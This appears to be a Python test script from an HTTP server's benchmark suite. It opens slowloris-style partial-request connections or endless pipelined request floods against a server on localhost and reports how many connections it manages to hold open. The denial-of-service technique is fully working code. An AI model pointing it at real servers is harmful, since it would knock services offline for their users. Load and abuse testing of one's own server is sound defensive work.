#!/usr/bin/env python3
"""Hostile connections for bench/bench-abuse.sh, from 127.0.0.2 (the readers are 127.0.0.1).

Usage: connections.py slowloris|pipeline PORT SECONDS

slowloris: 1,024 connections, each sends one whole request, then the start of a second head and
  nothing more.
pipeline:  64 connections, each pipelines `GET /` without end and never reads an answer.

A persistent attacker: a connection the server closes is opened again (at most once per 100 ms
round). Prints one line: ATTACK held_max=N held_end=N opened=N closed=N (held: connections
open at once, as far as the attacker can tell; closed: by the server).
"""
import errno
import socket
import sys
import time

mode, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
count = 1024 if mode == "slowloris" else 64
SLOW = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n"
BURST = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 4000


def connect():
    s = socket.socket()
    s.bind(("127.0.0.2", 0))
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return [s, SLOW if mode == "slowloris" else BURST, 0]


def alive(conn):
    """Sends what it can; False once the server has closed the connection."""
    s, data, sent = conn
    try:
        if mode == "slowloris":
            if sent < len(data):
                conn[2] += s.send(data[sent:])
            # The answer to the whole request may arrive; an end of stream means closed.
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    return False
        else:
            # Never reads: pipelines more whenever the socket takes it.
            while True:
                conn[2] += s.send(data)
    except BlockingIOError:
        return True
    except OSError as e:
        if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
            return True
        return False


conns, opened, closed, held_max = [], 0, 0, 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline:
    while len(conns) < count:
        conn = connect()
        if conn is None:
            break
        conns.append(conn)
        opened += 1
    still = []
    for conn in conns:
        if alive(conn):
            still.append(conn)
        else:
            conn[0].close()
            closed += 1
    conns = still
    held_max = max(held_max, len(conns))
    time.sleep(0.1)
print(f"ATTACK held_max={held_max} held_end={len(conns)} opened={opened} closed={closed}")
for conn in conns:
    conn[0].close()
